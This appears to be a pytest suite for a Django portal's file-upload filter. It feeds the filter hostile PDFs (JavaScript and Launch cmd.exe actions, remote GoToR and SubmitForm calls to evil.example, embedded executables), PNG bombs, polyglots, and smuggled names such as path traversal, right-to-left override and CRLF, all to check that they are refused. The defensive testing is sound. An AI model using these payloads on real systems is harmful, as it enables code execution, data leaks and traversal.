"""The upload gate: what comes in is a PDF that does nothing, or a picture that says nothing."""

import io
from types import SimpleNamespace

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from portal.base import upload_checks, uploads
from portal.base.models import StoredFile
from tests.base import files
from tests.base.files import pdf


def accept(data: bytes, name="anexo.pdf", sent_as="application/pdf"):
    return uploads.accept(SimpleUploadedFile(name, data, content_type=sent_as))


@pytest.mark.parametrize(
    ("data", "content_type", "name"),
    [
        (pdf(), "application/pdf", "informe.pdf"),
        (files.office_pdf(), "application/pdf", "informe.pdf"),
        (files.goto_pdf(), "application/pdf", "informe.pdf"),
        (pdf() + b"\r\n\n", "application/pdf", "informe.pdf"),
        (files.picture("JPEG"), "image/jpeg", "informe.jpg"),
        (files.picture("PNG"), "image/png", "informe.png"),
    ],
)
def test_good_files_come_in_under_the_name_of_what_they_are(data, content_type, name):
    clean = accept(data, name="informe.exe")
    assert (clean.content_type, clean.name) == (content_type, name)


JS = "<< /S /JavaScript /JS (app.alert(1)) >>"
HOSTILE_PDFS = {
    "JavaScript when it opens": pdf(JS, catalog="/OpenAction 4 0 R"),
    "JavaScript by name": pdf(JS, catalog="/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"),
    "JavaScript when a page opens": pdf(page=f"/AA << /O {JS} >>"),
    "JavaScript as a second step": pdf(
        catalog=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{JS}] >>"
    ),
    "JavaScript written otherwise": pdf(
        catalog="/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    ),
    "JavaScript in the parent of a field": pdf(
        "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /Parent 5 0 R >>",
        f"<< /FT /Tx /T (a) /Kids [4 0 R] /AA << /K {JS} >> >>",
        page="/Annots [4 0 R]",
    ),
    "Launch": pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "Launch by an indirect name": pdf("/Launch", catalog="/OpenAction << /S 4 0 R /F (cmd.exe) >>"),
    "opens a file on a network": pdf(
        catalog=r"/OpenAction << /S /GoToR /F (\\\\evil.example\\a) /D [0 /Fit] >>"
    ),
    "Launch from a link": pdf(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>",
        page="/Annots [4 0 R]",
    ),
    "sends a form": pdf(catalog="/OpenAction << /S /SubmitForm /F (http://evil.example) >>"),
    "an embedded file": pdf(
        "<< /Type /EmbeddedFile /Length 4 >>\nstream\nhola\nendstream",
        "<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
        catalog="/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>",
    ),
    "an attached file without types": pdf(
        "<< /Length 4 >>\nstream\nhola\nendstream",
        "<< /F (a.exe) /EF << /F 4 0 R >> >>",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
        page="/Annots [6 0 R]",
    ),
    "an XFA form": pdf(catalog="/AcroForm << /XFA (x) >>"),
    "rich media": pdf(
        "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>",
        page="/Annots [4 0 R]",
    ),
    "in a compressed object": files.pdf_with_object_stream(),
}


@pytest.mark.parametrize("data", HOSTILE_PDFS.values(), ids=HOSTILE_PDFS.keys())
def test_a_pdf_that_acts_is_refused(data):
    with pytest.raises(uploads.FileRefused) as refused:
        accept(data)
    assert "PDF" in str(refused.value)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(files.HTML, id="HTML named pdf"),
        pytest.param(files.SVG, id="SVG"),
        pytest.param(files.archive(), id="zip"),
        pytest.param(files.archive("word/document.xml"), id="docx"),
        pytest.param(b"MZ" + b"\0" * 200, id="program"),
        pytest.param(files.picture("GIF"), id="GIF"),
        pytest.param(files.picture("TIFF"), id="TIFF"),
        pytest.param(b"GIF89a" + pdf(), id="GIF and PDF"),
        pytest.param(files.HTML + pdf(), id="HTML before the PDF"),
        pytest.param(b"", id="empty"),
        pytest.param(pdf() + files.HTML, id="bytes after the PDF"),
        pytest.param(pdf() + files.archive(), id="zip after the PDF"),
        pytest.param(pdf()[:120], id="half a PDF"),
        pytest.param(b"%PDF-1.7\n%%EOF\n", id="a PDF of nothing"),
        pytest.param(pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0"), id="no pages"),
        pytest.param(files.picture("JPEG")[:200], id="half a JPEG"),
        pytest.param(files.png_bomb(), id="PNG bomb"),
        pytest.param(files.png_bomb(9000, 9000), id="PNG too large"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + b"\0" * 50, id="broken PNG"),
        pytest.param(b"\xff\xd8\xff\xe0" + b"A" * 500, id="broken JPEG"),
    ],
)
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_anything_else_is_refused_with_a_sentence(data):
    with pytest.raises(uploads.FileRefused) as refused:
        accept(data)
    assert str(refused.value).endswith((".", "»"))


@pytest.mark.parametrize("algorithm", ["RC4-128", "RC4-40"])
def test_a_locked_pdf_is_refused(algorithm):
    with pytest.raises(uploads.FileRefused):
        accept(files.encrypted_pdf(algorithm))


def test_a_pdf_locked_with_a_cipher_that_is_not_installed_is_refused():
    locked = pdf().replace(
        b"/Root 1 0 R", b"/Root 1 0 R /ID [<00><00>] /Encrypt << /Filter /Standard /V 5 /R 6 "
        b"/Length 256 /P -4 /O <" + b"00" * 48 + b"> /U <" + b"00" * 48 + b"> /OE <" + b"00" * 32
        + b"> /UE <" + b"00" * 32 + b"> /Perms <" + b"00" * 16 + b"> /StmF /StdCF /StrF /StdCF "
        b"/CF << /StdCF << /CFM /AESV3 /Length 32 >> >> >>",
    )  # fmt: skip
    with pytest.raises(uploads.FileRefused):
        accept(locked)


def test_a_file_that_is_too_large_is_refused_before_it_is_read():
    upload = SimpleNamespace(size=uploads.MAX_BYTES + 1, read=lambda: pytest.fail("read"))
    with pytest.raises(uploads.FileRefused, match="6 MB"):
        uploads.accept(upload)


def test_more_files_than_allowed_are_refused():
    uploads.check_count(uploads.MAX_FILES)
    with pytest.raises(uploads.FileRefused):
        uploads.check_count(uploads.MAX_FILES + 1)


def test_the_place_of_a_photo_and_its_owner_are_gone_and_it_stands_upright():
    sent = files.jpeg_with_gps()
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(0x8825)
    kept = accept(sent, "foto.jpg").data
    drawn = Image.open(io.BytesIO(kept))
    assert not drawn.getexif() and "exif" not in drawn.info and "comment" not in drawn.info
    assert b"TelefonoMarca" not in kept and b"calle 9" not in kept and b"Exif" not in kept
    assert drawn.size == (30, 40)


def test_the_notes_in_a_png_are_gone():
    kept = accept(files.png_with_text(), "foto.png").data
    assert b"Ana Ruiz" not in kept
    assert b"tEXt" not in kept and b"iTXt" not in kept and b"eXIf" not in kept


def test_what_hangs_behind_a_picture_is_gone():
    for fmt in ("JPEG", "PNG"):
        assert b"alert(1)" not in accept(files.picture(fmt) + files.HTML).data


def test_colours_that_profiles_bring_along_do_not_keep_the_profile():
    kept = accept(files.picture("PNG", icc_profile=b"Perfil de Ana" * 20), "a.png").data
    assert b"iCCP" not in kept


@pytest.mark.parametrize(
    ("sent", "name"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Ana\\carta.pdf", "C: Users Ana carta.pdf"),
        ("factura\u202efdp.exe", "facturafdp.pdf"),
        ("línea\r\nX: y.pdf", "línea X: y.pdf"),
        ("a" * 300 + ".pdf", "a" * 100 + ".pdf"),
        (".pdf", "archivo.pdf"),
        ("   ", "archivo.pdf"),
    ],
)
def test_the_public_name_is_one_clean_line(sent, name):
    assert uploads._public_name(sent.rsplit("/", 1)[-1], "application/pdf") == name


@pytest.mark.django_db
def test_a_stored_file_lies_under_a_random_name(settings):
    clean = accept(pdf(), "Queja de Ana.pdf")
    stored = clean.store()
    stored = StoredFile.objects.get(pk=stored.pk)
    assert "Ana" not in stored.content.name and stored.content.name.endswith(stored.pk.hex)
    assert stored.content.read() == clean.data
    assert (stored.size, stored.sha256) == (len(clean.data), clean.sha256)


SEEDS = [files.office_pdf(), *HOSTILE_PDFS.values(), files.jpeg_with_gps(), files.png_with_text()]
WORDS = {*uploads._PDF_SAYS, upload_checks.CLEAN}


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_damaged_file_is_refused_or_taken_but_never_an_error(data):
    body = bytearray(data.draw(st.sampled_from(SEEDS)))
    for _ in range(data.draw(st.integers(1, 6))):
        place = data.draw(st.integers(8, len(body) - 1))
        body[place : place + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=4))
    kind = "application/pdf" if body.startswith(b"%PDF") else "image/png"
    word, clean = upload_checks.answer(kind, bytes(body), uploads.MAX_STORED_BYTES)
    assert word in WORDS and bool(clean) == (word == upload_checks.CLEAN)
